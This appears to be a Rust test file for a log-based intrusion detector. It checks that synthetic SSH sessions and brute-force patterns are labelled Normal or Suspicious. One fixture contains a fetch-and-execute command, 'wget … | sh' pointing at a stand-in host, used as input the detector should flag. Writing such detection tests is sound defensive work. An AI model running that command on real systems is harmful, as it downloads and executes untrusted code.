//! The pinned detection behaviours, with the agent's own model in the loop
//! (the detector's own tests pin them with a model that always says Normal;
//! here the verdict is what the agent reports).

use bfp_agent::pipeline::Pipeline;
use bfp_agent::report::Record;
use bfp_agent::scoring::Scorer;
use bfp_agent::source::Line;
use bfp_common::wire::RecordKind;
use bfp_common::Prediction;
use bfp_logs::analyze::{AnalyzerConfig, LogFormat};
use bfp_testkit::{alice_history, sshd_session};

/// The lines through the agent's pipeline with its embedded model.
fn run(lines: &[String]) -> Vec<Record> {
    let scorer = Scorer::load(None).unwrap();
    assert_eq!(scorer.schema(), bfp_common::schema::AGENT_SCHEMA, "the agent's embedded model is schema 3");
    let config = AnalyzerConfig { reference_time: Some(1_796_083_200), ..AnalyzerConfig::default() };
    let mut pipeline = Pipeline::new("behaviours", Some(LogFormat::Syslog), config);
    let mut out = Vec::new();
    for text in lines {
        pipeline.feed(Line { text, replay: false });
        pipeline.drain(&scorer, &mut out);
    }
    pipeline.finish(&scorer, &mut out);
    out
}

fn last_session(out: &[Record], user: &str) -> Record {
    out.iter().rev().find(|r| r.kind == RecordKind::Session && r.user.as_deref() == Some(user)).cloned().unwrap()
}

#[test]
fn a_mistyping_user_from_home_is_normal() {
    let mut lines = alice_history();
    lines.extend(sshd_session(16, (10, 30), 2000, "alice", "198.51.100.99", 2, &["/bin/systemctl restart nginx"]));
    let out = run(&lines);
    let s = last_session(&out, "alice");
    assert_eq!(s.failed_logins, 2);
    assert_eq!(s.prediction, Prediction::Normal, "{s:?}");
    // Her history is Normal too.
    let flagged =
        out.iter().filter(|r| r.kind == RecordKind::Session && r.prediction == Prediction::Suspicious).count();
    assert_eq!(flagged, 0, "{out:?}");
}

#[test]
fn the_same_user_from_a_new_network_at_three_running_wget_pipe_sh_is_suspicious() {
    let mut lines = alice_history();
    lines.extend(sshd_session(
        16,
        (3, 0),
        2001,
        "alice",
        "203.0.113.50",
        0,
        &["/usr/bin/wget -qO- http://203.0.113.9/i.sh | sh"],
    ));
    let s = last_session(&run(&lines), "alice");
    assert_eq!(s.prediction, Prediction::Suspicious, "{s:?}");
    let all = s.reasons.join(" | ");
    assert!(all.contains("203.0.113.0/24") || all.contains("network new to this user"), "{all}");
}

#[test]
fn a_slow_brute_force_of_two_attempts_an_hour_over_a_day_makes_its_source_suspicious() {
    let mut lines = Vec::new();
    for hour in 0..24u32 {
        for (k, minute) in [7u32, 37].into_iter().enumerate() {
            let user = ["admin", "oracle", "test", "pi"][(hour as usize * 2 + k) % 4];
            lines.push(format!(
                "Nov 20 {hour:02}:{minute:02}:11 host sshd[{}]: Failed password for invalid user {user} from 203.0.113.7 port 4{hour:02}{minute:02} ssh2",
                3000 + hour * 2 + k as u32
            ));
        }
    }
    let out = run(&lines);
    let ip = "203.0.113.7".parse().unwrap();
    let sources: Vec<_> = out.iter().filter(|r| r.kind == RecordKind::Source && r.source_ip == Some(ip)).collect();
    assert!(!sources.is_empty());
    assert!(sources.iter().any(|r| r.details["kind"] == "slow_brute_force"), "{sources:?}");
    assert!(sources.iter().all(|r| r.prediction == Prediction::Suspicious), "{sources:?}");
}

#[test]
fn two_hundred_addresses_once_each_within_an_hour_are_one_campaign() {
    let mut lines = Vec::new();
    for i in 0..200u32 {
        lines.push(format!(
            "Nov 22 14:{:02}:{:02} host sshd[{}]: Failed password for root from 198.18.{}.{} port 5{i:04} ssh2",
            i * 18 / 60,
            i * 18 % 60,
            6000 + i,
            i / 200,
            i % 200 + 1
        ));
    }
    let out = run(&lines);
    let campaigns: Vec<_> = out.iter().filter(|r| r.details["kind"] == "distributed_brute_force").collect();
    assert_eq!(campaigns.len(), 1, "{campaigns:?}");
    assert_eq!((campaigns[0].kind.as_str(), campaigns[0].prediction.label()), ("device", "Suspicious"));
}
